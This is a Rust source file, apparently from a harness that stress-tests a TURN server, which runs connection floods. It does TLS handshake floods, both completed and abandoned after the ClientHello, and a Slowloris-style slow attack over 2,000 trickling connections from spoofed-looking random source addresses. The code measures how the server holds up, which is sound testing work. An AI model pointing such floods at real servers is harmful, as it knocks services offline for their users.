//! Floods of connections.

use std::io::{self, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use rand::rngs::StdRng;
use rand::{RngExt as _, SeedableRng as _};
use socket2::{Domain, Socket, Type};
use tokio_rustls::rustls::{ClientConfig, ClientConnection, StreamOwned};
use turnserver::stun::TransactionId;

use crate::attack::AttackArguments;
use crate::load::allocation::{allocation, write};
use crate::load::link::tls_config;
use crate::load::{Commands, Outcome, clock};
use crate::output::print;

/// Clients that perform handshakes at a time.
const THREADS: u64 = 8;

/// Connections that a thread keeps open after its ClientHello.
const ABANDONED: usize = 128;

/// The number of slow connections, and the time in which each sends a byte.
pub(crate) const SLOW: usize = 2_000;
const SLOW_INTERVAL: u64 = clock::SECOND;

/// How a handshake ends.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Handshake {
    /// With the ClientHello.
    Abandoned,
    Completed,
}

/// Performs handshakes as fast as possible and returns their number within the measurement.
pub(crate) fn tls(attack: &AttackArguments, commands: &Commands, handshake: Handshake) -> Outcome<u64> {
    let config = Arc::new(tls_config(&attack.certificate)?);
    let hello = client_hello(attack.tls, &config)?;
    print("ready");
    let window = commands.window()?;
    clock::sleep_until(window.start);
    let done = AtomicU64::new(0);
    std::thread::scope(|scope| {
        for number in 0..THREADS {
            let (config, hello, done) = (&config, &hello, &done);
            scope.spawn(move || {
                let mut rng = StdRng::seed_from_u64(number);
                let mut open = Vec::new();
                while clock::now() < window.to {
                    // A connection that the server or its kernel refuses counts for nothing.
                    let result = match handshake {
                        Handshake::Completed => complete(attack.tls, config, &mut rng),
                        Handshake::Abandoned => abandon(attack.tls, hello, &mut rng, &mut open),
                    };
                    if result.is_ok() && window.counts(clock::now()) {
                        done.fetch_add(1, Ordering::Relaxed);
                    }
                }
            });
        }
    });
    Ok(done.into_inner())
}

fn complete(server: SocketAddr, config: &Arc<ClientConfig>, rng: &mut StdRng) -> Outcome<()> {
    let session = ClientConnection::new(Arc::clone(config), server.ip().into())?;
    let mut stream = StreamOwned::new(session, connect(server, rng)?);
    while stream.conn.is_handshaking() {
        stream.conn.complete_io(&mut stream.sock)?;
    }
    Ok(())
}

/// Returns the bytes of a ClientHello, which all abandoned handshakes share.
fn client_hello(server: SocketAddr, config: &Arc<ClientConfig>) -> Outcome<Vec<u8>> {
    let (mut session, mut hello) = (ClientConnection::new(Arc::clone(config), server.ip().into())?, Vec::new());
    session.write_tls(&mut hello)?;
    Ok(hello)
}

fn abandon(server: SocketAddr, hello: &[u8], rng: &mut StdRng, open: &mut Vec<TcpStream>) -> Outcome<()> {
    let mut stream = connect(server, rng)?;
    stream.write_all(hello)?;
    open.push(stream);
    if open.len() > ABANDONED {
        open.remove(0);
    }
    Ok(())
}

/// Connects from a random address of the attacker.
fn connect(server: SocketAddr, rng: &mut StdRng) -> io::Result<TcpStream> {
    let own = Ipv4Addr::from_bits(0x0a01_0000 | rng.random_range(1..1 << 16));
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddr::new(IpAddr::V4(own), 0).into())?;
    socket.connect_timeout(&server.into(), Duration::from_secs(1))?;
    socket.set_read_timeout(Some(Duration::from_secs(1)))?;
    Ok(socket.into())
}

/// Keeps many connections open, each of which sends a byte of a request every second. Returns the number of those that
/// the server ended within the measurement.
pub(crate) fn slow(attack: &AttackArguments, commands: &Commands) -> Outcome<u64> {
    let request = write(&allocation(), TransactionId::new([3; 12]), None)?;
    let mut rng = StdRng::seed_from_u64(3);
    let mut open = Vec::new();
    for _ in 0..SLOW {
        open.push((connect(attack.server, &mut rng)?, 0));
    }
    print("ready");
    let window = commands.window()?;
    let mut ended = 0;
    for step in 0_u64.. {
        let due = window.start + step * SLOW_INTERVAL / SLOW as u64;
        if due >= window.to {
            break;
        }
        clock::sleep_until(due);
        let Some((stream, at)) = open.get_mut(usize::try_from(step)? % SLOW) else { continue };
        let byte = request.get(*at..=*at).unwrap_or_default();
        *at += 1;
        if byte.is_empty() || stream.write(byte).is_err() {
            ended += u64::from(window.counts(due));
            (*stream, *at) = (connect(attack.server, &mut rng)?, 0);
        }
    }
    Ok(ended)
}
